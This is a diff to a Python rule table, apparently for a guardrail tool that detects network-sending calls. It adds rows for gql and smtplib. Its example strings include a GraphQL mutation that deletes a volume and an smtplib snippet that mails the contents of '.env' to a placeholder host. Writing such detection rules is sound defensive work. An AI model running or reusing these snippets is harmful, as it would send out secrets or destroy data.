@@ -1,13 +1,13 @@
 """Requests over HTTP, by the libraries people use for them.
 
-Sources: the documentation of requests 2, httpx 0.28, aiohttp 3 and of the standard library's
-`urllib` and `http.client`. A method of an object that isn't known counts where it is given a whole
-address.
+Sources: the documentation of requests 2, httpx 0.28, aiohttp 3, gql 4 and of the standard library's
+`urllib`, `http.client` and `smtplib`. A method of an object that isn't known counts where it is
+given a whole address.
 """
 
 from __future__ import annotations
 
-from guardrail.knowledge.python.rows import Argument, Row, Sends
+from guardrail.knowledge.python.rows import NOWHERE, Argument, Row, Sends
 
 _URL = Argument(0, "url")
 _ANY = ("requests", "httpx", "aiohttp", "urllib3", "requests_oauthlib", "niquests", "cloudscraper")
@@ -58,5 +58,27 @@ ROWS: tuple[Row, ...] = (
         method="GET",
         url=_URL,
         example='urllib.request.urlopen("https://api.acme.io/users", data=body)',
+    ),
+    Sends(
+        names=("gql.gql", "gql.graphql_request.GraphQLRequest"),
+        method="POST",
+        url=NOWHERE,
+        bodies=(Argument(0, "request_string"),),
+        secretly=True,
+        beside=("gql",),
+        example='from gql import gql\ngql("mutation { volumeDelete(volumeId: 7) }")',
+    ),
+    Sends(
+        names=(".send_message", ".sendmail"),
+        method="MAIL",
+        url=NOWHERE,
+        bodies=(Argument(0, "msg"), Argument(2, "msg")),
+        secretly=True,
+        beside=("smtplib", "aiosmtplib"),
+        example=(
+            "import smtplib\nfrom email.message import EmailMessage\nmessage = EmailMessage()\n"
+            'message.set_content(open(".env").read())\n'
+            'smtplib.SMTP("mail.acme.io").send_message(message)'
+        ),
     ),
 )
